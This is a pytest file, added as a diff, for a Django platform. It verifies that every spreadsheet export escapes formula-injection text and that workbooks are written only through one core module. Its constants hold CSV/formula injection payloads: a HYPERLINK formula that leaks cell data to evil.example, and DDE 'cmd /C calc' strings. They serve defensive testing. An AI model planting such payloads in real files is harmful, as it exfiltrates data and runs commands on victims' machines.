@@ -1,0 +1,237 @@
+"""Formula injection (issue 9, item 7; ARCHITECTURE §10): a text starting with ``=``, ``+``, ``-``, ``@``, a tab
+or a carriage return that someone typed into the platform (an enterprise's name, a hazard's description, an
+uploaded cell) must reach the reader of any spreadsheet the platform hands out as that text, never as a
+formula Excel or WPS would run. Every spreadsheet route is downloaded with such values planted in its text
+fields; a route that hands out a spreadsheet and is not listed here fails; and the source is read to refuse
+any spreadsheet written outside the one writer in core (shouye/core/xlsx.py)."""
+
+import ast
+import io
+import re
+import zipfile
+from datetime import timedelta
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from shouye.enterprises.choices import PersonRole
+from shouye.enterprises.models import ImportJob, Industry, Tag
+from shouye.hazards.choices import HazardState
+from shouye.hazards.models import Hazard, LedgerExport
+from tests.conftest import api_as
+from tests.factories import LicenceFactory, PersonFactory, UserFactory
+from tests.hazards.conftest import make_hazard
+
+pytestmark = pytest.mark.django_db
+
+LINK = '=HYPERLINK("http://evil.example/?d="&C2,"详情")'
+DDE = "+cmd|' /C calc'!A0"
+MINUS = "-2+3+cmd|' /C calc'!A0"
+AT = "@SUM(1+1)*cmd|' /C calc'!A0"
+TAB = "\t=1+1"
+CR = "\r=1+1"
+#: What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection").
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")
+ROOT = Path(__file__).resolve().parents[2]
+
+
+def inert_texts(content: bytes) -> list[str]:
+    """Every text cell of every sheet, after checking that nothing in the workbook can act as a formula: no
+    formula element in any sheet's XML, no cell openpyxl reads as a formula, and every text that starts like
+    one in the quotePrefix style (Excel and WPS show it as it is, and keep it text when it is edited)."""
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        for name in package.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                assert not _FORMULA_ELEMENT.search(package.read(name)), f"a formula in {name}"
+    texts = []
+    for sheet in load_workbook(io.BytesIO(content)).worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                where = (sheet.title, cell.coordinate, cell.value)
+                assert cell.data_type != "f", where
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(TRIGGERS) or cell.quotePrefix, where
+                    texts.append(cell.value)
+    return texts
+
+
+def body(response) -> bytes:
+    assert response.status_code == 200, response.status_code
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+@pytest.fixture
+def planted(cast, settings):
+    """The enterprise ``inside`` and one of its hazards with a formula-like text in every text column the
+    exports write (and a negative amount, which must stay a number); staff signed in to download them."""
+    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
+    inside = cast["inside"]
+    type(inside).objects.filter(pk=inside.pk).update(name=LINK, legal_representative=DDE, address=MINUS)
+    PersonFactory(enterprise=inside, role=PersonRole.PRINCIPAL, name=AT)
+    PersonFactory(enterprise=inside, role=PersonRole.SAFETY_OFFICER, name=CR)
+    LicenceFactory(enterprise=inside)
+    tag = Tag.objects.get(code="mhi")
+    Tag.objects.filter(pk=tag.pk).update(name=TAB)
+    inside.tags.add(tag)
+    Industry.objects.filter(code="construction").update(name=LINK)
+    reviewer = UserFactory(username="formula-reviewer", display_name=TAB)
+    make_hazard(inside, state=HazardState.CLOSED, description=DDE, funds=Decimal("-5.00"),
+                reinspected_at=timezone.now() - timedelta(hours=1), reinspected_by=reviewer)
+    make_hazard(inside, state=HazardState.RECTIFYING, description=CR)
+    Hazard.objects.filter(enterprise=inside).update(measures=MINUS, responsible_person=AT)
+    return cast["users"]["bureau_staff"]
+
+
+def _enterprise_export_page(client, staff, django_capture_on_commit_callbacks, settings):
+    return body(client.get(reverse("enterprises:export")))
+
+
+def _enterprise_export_api(client, staff, django_capture_on_commit_callbacks, settings):
+    return body(api_as(staff).get("/api/v1/enterprises/export/"))
+
+
+def _ledger_export_page(client, staff, django_capture_on_commit_callbacks, settings):
+    return body(client.get(reverse("hazards:export")))
+
+
+def _ledger_export_api(client, staff, django_capture_on_commit_callbacks, settings):
+    return body(api_as(staff).get("/api/v1/hazards/export/"))
+
+
+def _ledger_export_job_file(client, staff, django_capture_on_commit_callbacks, settings):
+    settings.SHOUYE_LEDGER_SYNC_MAX_ROWS = 1
+    with django_capture_on_commit_callbacks(execute=True):
+        assert client.get(reverse("hazards:export")).status_code == 302
+    job = LedgerExport.objects.get()
+    return body(client.get(reverse("hazards:export-job-file", args=[job.pk])))
+
+
+def _import_template(client, staff, django_capture_on_commit_callbacks, settings):
+    return body(client.get(reverse("enterprises:import-template")))
+
+
+def _import_error_file(client, staff, django_capture_on_commit_callbacks, settings):
+    """An upload whose rows hold formula-like texts (stored as text, as Excel stores a cell typed with a
+    leading apostrophe) and a real formula, refused for an unknown township."""
+    template = body(client.get(reverse("enterprises:import-template")))
+    workbook = load_workbook(io.BytesIO(template))
+    sheet = workbook.worksheets[0]
+    for column, value in enumerate([LINK, "91370113MA3C4XYZ1Q", "火星镇", "危险化学品", DDE, MINUS], start=1):
+        cell = sheet.cell(row=2, column=column, value=value)
+        cell.data_type = "s"
+    sheet.cell(row=3, column=1, value="=A2&B2")
+    sheet.cell(row=3, column=5, value=AT).data_type = "s"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    upload = io.BytesIO(buffer.getvalue())
+    upload.name = "公式.xlsx"
+    client.post(reverse("enterprises:import"), {"file": upload})
+    job = ImportJob.objects.get(created_by=staff)
+    assert job.status == ImportJob.Status.FAILED and job.error_file
+    return body(client.get(reverse("enterprises:import-error-file", args=[job.pk])))
+
+
+#: Every route that hands out a spreadsheet, with how to download it and the planted texts it must show.
+SPREADSHEET_ROUTES = {
+    "enterprises:export": (_enterprise_export_page, {LINK, DDE, MINUS, AT, TAB, CR}),
+    "enterprise-export": (_enterprise_export_api, {LINK, DDE, MINUS, AT, TAB, CR}),
+    "hazards:export": (_ledger_export_page, {LINK, DDE, CR, MINUS, AT, TAB}),
+    "hazard-export": (_ledger_export_api, {LINK, DDE, CR, MINUS, AT, TAB}),
+    "hazards:export-job-file": (_ledger_export_job_file, {LINK, DDE, CR, MINUS, AT, TAB}),
+    "enterprises:import-template": (_import_template, {LINK, TAB}),
+    "enterprises:import-error-file": (_import_error_file, {LINK, DDE, MINUS, AT}),
+}
+#: Downloads that are not spreadsheets: inspection documents are PDFs (WeasyPrint from HTML templates).
+OTHER_DOWNLOADS = {"inspections:document-download", "inspection-document-download"}
+
+
+@pytest.mark.parametrize("name", sorted(SPREADSHEET_ROUTES))
+def test_no_spreadsheet_route_hands_out_a_formula(client, planted, name, django_capture_on_commit_callbacks,
+                                                  settings):
+    client.force_login(planted)
+    download, expected = SPREADSHEET_ROUTES[name]
+    texts = inert_texts(download(client, planted, django_capture_on_commit_callbacks, settings))
+    assert expected <= set(texts), expected - set(texts)
+
+
+def test_a_negative_amount_stays_a_number(client, planted):
+    client.force_login(planted)
+    sheet = load_workbook(io.BytesIO(body(client.get(reverse("hazards:export"))))).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    funds = [row[header.index("整改资金(元)")] for row in sheet.iter_rows(min_row=2)]
+    assert [(cell.value, cell.data_type) for cell in funds if cell.value is not None] == [(-5, "n")]
+
+
+def _routes(resolver=None, prefix="", namespace=""):
+    for pattern in (resolver or get_resolver()).url_patterns:
+        if isinstance(pattern, URLResolver):
+            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
+            yield from _routes(pattern, prefix + str(pattern.pattern), inner)
+        elif isinstance(pattern, URLPattern) and pattern.name:
+            yield prefix + str(pattern.pattern), namespace + pattern.name
+
+
+def test_every_download_route_is_listed_here():
+    """A new export, template or file download joins the test above (or is named as not a spreadsheet)."""
+    downloads = {name for path, name in _routes()
+                 if not name.startswith("admin:")
+                 and (re.search(r"(export|template|file|download)$", name) or ".xlsx" in path)}
+    assert downloads == set(SPREADSHEET_ROUTES) | OTHER_DOWNLOADS
+
+
+# --- the source: one writer ----------------------------------------------------------------------------------
+
+#: The one module that may create or save a workbook.
+WRITER = ROOT / "shouye" / "core" / "xlsx.py"
+_FORBIDDEN_IMPORTS = {("openpyxl", "Workbook"), ("openpyxl.workbook", "Workbook"),
+                      ("openpyxl.workbook.workbook", "Workbook"), ("openpyxl.writer.excel", "save_workbook"),
+                      ("openpyxl.writer.excel", "ExcelWriter"), ("csv", "writer"), ("csv", "DictWriter")}
+
+
+def spreadsheet_writers(source: str) -> list[tuple[int, str]]:
+    """(line, what) of every way this source could write a spreadsheet itself."""
+    found = []
+    for node in ast.walk(ast.parse(source)):
+        if isinstance(node, ast.Import):
+            found += [(node.lineno, f"import {a.name}") for a in node.names if a.name.split(".")[0] == "xlsxwriter"]
+        elif isinstance(node, ast.ImportFrom):
+            module = node.module or ""
+            if module.split(".")[0] == "xlsxwriter":
+                found.append((node.lineno, f"from {module} import …"))
+            found += [(node.lineno, f"from {module} import {a.name}") for a in node.names
+                      if (module, a.name) in _FORBIDDEN_IMPORTS]
+        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) \
+                and (node.value.id, node.attr) in {("openpyxl", "Workbook"), ("csv", "writer"), ("csv", "DictWriter")}:
+            found.append((node.lineno, f"{node.value.id}.{node.attr}"))
+        elif isinstance(node, ast.Call):
+            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
+            read_only = any(k.arg == "read_only" and isinstance(k.value, ast.Constant) and k.value.value is True
+                            for k in node.keywords)
+            if name == "load_workbook" and not read_only:
+                found.append((node.lineno, "load_workbook(…) without read_only=True"))
+    return sorted(found)
+
+
+def test_the_refusal_sees_each_way_of_writing_a_workbook():
+    assert [what for _line, what in spreadsheet_writers(
+        "from openpyxl import Workbook, load_workbook\nimport openpyxl, xlsxwriter, csv\n"
+        "openpyxl.Workbook()\nload_workbook(f)\nload_workbook(f, read_only=True)\ncsv.writer(f)\n"
+        "from openpyxl.writer.excel import save_workbook\n")] == [
+        "from openpyxl import Workbook", "import xlsxwriter", "openpyxl.Workbook",
+        "load_workbook(…) without read_only=True", "csv.writer", "from openpyxl.writer.excel import save_workbook"]
+
+
+def test_no_spreadsheet_is_written_outside_the_one_writer():
+    offenders = []
+    for path in sorted([*(ROOT / "shouye").rglob("*.py"), *(ROOT / "config").rglob("*.py")]):
+        if path == WRITER or "migrations" in path.parts:
+            continue
+        offenders += [f"{path.relative_to(ROOT)}:{line}: {what}"
+                      for line, what in spreadsheet_writers(path.read_text(encoding="utf-8"))]
+    assert offenders == [], "write spreadsheets with shouye.core.xlsx, which neutralises formulas:\n" + \
+        "\n".join(offenders)
